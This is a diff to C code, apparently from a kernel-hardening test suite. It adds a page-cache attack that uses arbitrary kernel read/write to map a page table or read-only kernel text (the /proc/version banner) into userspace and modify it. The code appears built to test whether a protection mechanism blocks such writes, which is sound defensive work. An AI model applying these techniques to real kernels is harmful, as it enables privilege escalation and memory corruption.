@@ -86,49 +86,122 @@ found:
 	return DONE;
 }
 
-/* A file's only page is one of the attacker's page tables. */
-static int page_cache(void)
-{
-	char *range = private_range(0), *at = range + 5 * PAGE_SIZE;
-	struct kpkeys_attack_leak l = {};
-	u64 mapping, slot, page, old_page, words[8];
-	unsigned int i;
-	int fd = file_of(PAGE_SIZE);
+#define NR_WORDS	8	/* of a struct page */
 
-	range[0] = 1;
+/* The only page of a file, in the page cache. */
+struct cached_page {
+	char *at;		/* where the file is mapped */
+	u64 slot;		/* of the page cache */
+	u64 page;		/* struct page of the page to put there */
+	u64 old_page;
+	u64 words[NR_WORDS];	/* what @page was */
+};
+
+static int populate(void *at)
+{
+	return madvise(at, PAGE_SIZE, MADV_POPULATE_WRITE);
+}
+
+/* Has the kernel map @page, an ordinary one or not, at @at. */
+static void map_cached(struct cached_page *c, u64 page, char *at)
+{
+	struct kpkeys_attack_leak l = {};
+	int fd = file_of(PAGE_SIZE);
+	unsigned int i;
+	u64 mapping;
+
 	if (pwrite(fd, "x", 1, 0) != 1)
 		die("cannot write to a file");
-	munmap(at, PAGE_SIZE);
-	map_file(fd, at, PAGE_SIZE, 0, MAP_FIXED_NOREPLACE);
+	c->at = map_file(fd, at, PAGE_SIZE, 0, at ? MAP_FIXED_NOREPLACE : 0);
 
-	get_leak(&l, at);
+	get_leak(&l, c->at);
 	mapping = kernel_read(kernel_read(l.vma + lookup("vm_area_struct.vm_file")) +
 			      lookup("file.f_mapping"));
-	slot = mapping + lookup("address_space.i_pages.xa_head");
-	old_page = kernel_read(slot);
-	page = struct_page(table_of(range, 1));
-	for (i = 0; i < ARRAY_SIZE(words); i++)
-		words[i] = kernel_read(page + 8 * i);
+	c->slot = mapping + lookup("address_space.i_pages.xa_head");
+	c->old_page = kernel_read(c->slot);
+	c->page = page;
+	for (i = 0; i < NR_WORDS; i++)
+		c->words[i] = kernel_read(page + 8 * i);
 
 	kernel_write(page + lookup("page.mapping"), mapping);
 	kernel_write(page + lookup("page.flags"), kernel_read(page + lookup("page.flags")) |
 		     1ULL << lookup("PG_uptodate"));
-	kernel_write(slot, page);
+	kernel_write(c->slot, page);
 
-	madvise(at, PAGE_SIZE, MADV_POPULATE_WRITE);
-	if (kernel_address(kernel_read(entry_slot(leak.pgd, at, 1))) == table_of(range, 1)) {
+	/* By one who may be killed: what was written has to be put back. */
+	ended_well(start(populate, c->at));
+}
+
+static bool is_mapped(const struct cached_page *c, u64 kernel_addr)
+{
+	u64 entry = kernel_read(entry_slot(leak.pgd, c->at, 1));
+
+	return entry & 1 && kernel_address(entry) == kernel_addr;
+}
+
+static void unmap_cached(const struct cached_page *c)
+{
+	unsigned int i;
+
+	restore(c->slot, c->old_page);
+	for (i = 0; i < NR_WORDS; i++)
+		restore(c->page + 8 * i, c->words[i]);
+}
+
+/* A file's only page is one of the attacker's page tables. */
+static int page_cache(void)
+{
+	char *range = private_range(0), *at = range + 5 * PAGE_SIZE;
+	struct cached_page c;
+
+	range[0] = 1;
+	munmap(at, PAGE_SIZE);
+	map_cached(&c, struct_page(table_of(range, 1)), at);
+	if (is_mapped(&c, table_of(range, 1))) {
 		steal_with_table((u64 *)at, range);
 		((volatile u64 *)at)[5] = empty_entry();
 		flush();
 	}
-	restore(slot, old_page);
-	for (i = 0; i < ARRAY_SIZE(words); i++)
-		restore(page + 8 * i, words[i]);
+	unmap_cached(&c);
+	return DONE;
+}
+
+/* A file's only page is one of the kernel's, which nobody can write to: /proc/version. */
+static int page_cache_image(void)
+{
+	u64 text, page;
+	struct cached_page c;
+	char version[2] = "";
+	char *letter;
+	int fd;
+
+	if (!on_arch("arm64"))
+		return not_possible("the kernel is not in the memory that it manages");
+
+	text = lookup("linux_proc_banner") - kernel_read(lookup("kimage_voffset")) +
+	       leak.linear_offset;
+	page = text & ~(u64)(PAGE_SIZE - 1);
+	map_cached(&c, struct_page(page), NULL);
+	if (is_mapped(&c, page)) {
+		letter = c.at + text % PAGE_SIZE;
+		(*letter)++;
+		fd = open("/proc/version", O_RDONLY);
+		if (read(fd, version, 1) == 1)
+			shared->victim_lost = version[0] == *letter;
+		close(fd);
+		(*letter)--;
+		/* The kernel must not free it. */
+		restore(entry_slot(leak.pgd, c.at, 1), empty_entry());
+		flush();
+	}
+	unmap_cached(&c);
 	return DONE;
 }
 
 const struct attack mappings[] = {
 	{ "vm-page-prot", "vma->vm_page_prot: bits of an address", page_prot },
 	{ "page-cache", "a slot of the page cache, and a table's struct page", page_cache },
+	{ "page-cache-image", "a slot of the page cache, and the struct page of read-only data",
+	  page_cache_image },
 	{ }
 };
